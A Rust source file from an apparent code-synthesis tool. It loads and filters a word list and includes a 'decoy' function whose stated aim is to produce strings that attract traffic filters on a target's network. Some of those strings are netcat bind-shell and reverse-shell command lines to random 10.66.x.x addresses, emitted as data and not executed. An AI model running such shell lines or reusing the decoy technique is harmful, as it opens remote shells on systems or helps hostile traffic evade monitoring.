//! Word corpus used for string operands and storage values.

use crate::error::{SynthError, SynthResult};
use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use rand::seq::SliceRandom;
use rand::Rng;
use std::path::Path;
use veighty_config::CorpusConfig;

/// Word list shipped with the crate.
pub const BUNDLED_WORDS: &str = include_str!("../data/words.txt");

/// Filtered list of words that can travel through both string push paths.
#[derive(Debug, Clone)]
pub struct Corpus {
    words: Vec<Vec<u8>>,
}

impl Corpus {
    /// Builds a corpus from `words`, keeping those whose length lies in
    /// `min_len..=max_len` and that consist of printable ASCII only.
    pub fn from_words<I, S>(words: I, min_len: usize, max_len: usize) -> SynthResult<Self>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        let words: Vec<Vec<u8>> = words
            .into_iter()
            .map(|word| word.as_ref().trim().as_bytes().to_vec())
            .filter(|word| (min_len..=max_len).contains(&word.len()))
            .filter(|word| word.iter().all(u8::is_ascii_graphic))
            .collect();
        if words.is_empty() {
            return Err(SynthError::EmptyCorpus);
        }
        Ok(Self { words })
    }

    /// One word per line.
    pub fn from_text(text: &str, min_len: usize, max_len: usize) -> SynthResult<Self> {
        Self::from_words(text.lines(), min_len, max_len)
    }

    pub fn load(path: &Path, min_len: usize, max_len: usize) -> SynthResult<Self> {
        let text = std::fs::read_to_string(path).map_err(|source| SynthError::Io {
            path: path.to_path_buf(),
            source,
        })?;
        let corpus = Self::from_text(&text, min_len, max_len)?;
        tracing::debug!(path = %path.display(), words = corpus.len(), "loaded word list");
        Ok(corpus)
    }

    /// Loads the configured word list, or filters the bundled one.
    pub fn from_config(config: &CorpusConfig) -> SynthResult<Self> {
        match &config.word_list {
            Some(path) => Self::load(path, config.min_word_len, config.max_word_len),
            None => Self::from_text(BUNDLED_WORDS, config.min_word_len, config.max_word_len),
        }
    }

    /// The bundled list with default length bounds.
    pub fn bundled() -> SynthResult<Self> {
        Self::from_config(&CorpusConfig::default())
    }

    pub fn len(&self) -> usize {
        self.words.len()
    }

    pub fn is_empty(&self) -> bool {
        self.words.is_empty()
    }

    pub fn words(&self) -> impl Iterator<Item = &[u8]> {
        self.words.iter().map(Vec::as_slice)
    }

    /// Uniformly chosen word.
    pub fn word<R: Rng + ?Sized>(&self, rng: &mut R) -> &[u8] {
        // Construction guarantees at least one word.
        self.words
            .choose(rng)
            .map(Vec::as_slice)
            .unwrap_or_default()
    }

    /// Value for a storage pair: a decoy one time in four, a word otherwise.
    pub fn value<R: Rng + ?Sized>(&self, rng: &mut R) -> Vec<u8> {
        if rng.gen_range(0..4) < 1 {
            decoy(rng, None).into_bytes()
        } else {
            self.word(rng).to_vec()
        }
    }
}

/// Produces a string that looks interesting to traffic filters on the
/// target's network path, optionally cut to `max_len` characters.
pub fn decoy<R: Rng + ?Sized>(rng: &mut R, max_len: Option<usize>) -> String {
    let repeated = |rng: &mut R, c: char| c.to_string().repeat(rng.gen_range(4..=64));
    let netcat = ["nc", "ncat", "netcat"];
    let mut text = match rng.gen_range(0..12) {
        0 => hex::encode(random_bytes(rng)),
        1 => STANDARD.encode(random_bytes(rng)),
        2 => repeated(rng, 'A'),
        3 => repeated(rng, 'a'),
        4 => repeated(rng, 'B'),
        5 => repeated(rng, 'b'),
        6 => "Never gonna give you up".to_string(),
        7 => "Never gonna let you down".to_string(),
        8 => "/bin/sh -c /bin/sh".to_string(),
        9 => "/bin/sh".to_string(),
        10 => format!(
            "/bin/{} -l -p {} -e /bin/sh",
            netcat[rng.gen_range(0..netcat.len())],
            rng.gen_range(1024..=65535u32)
        ),
        _ => format!(
            "/bin/{} -e /bin/sh 10.66.{}.{} {}",
            netcat[rng.gen_range(0..netcat.len())],
            rng.gen_range(0..=255u8),
            rng.gen_range(0..=255u8),
            rng.gen_range(1024..=65535u32)
        ),
    };
    if let Some(max_len) = max_len {
        text.truncate(max_len);
    }
    text
}

fn random_bytes<R: Rng + ?Sized>(rng: &mut R) -> Vec<u8> {
    let len = rng.gen_range(4..=16);
    (0..len).map(|_| rng.gen()).collect()
}
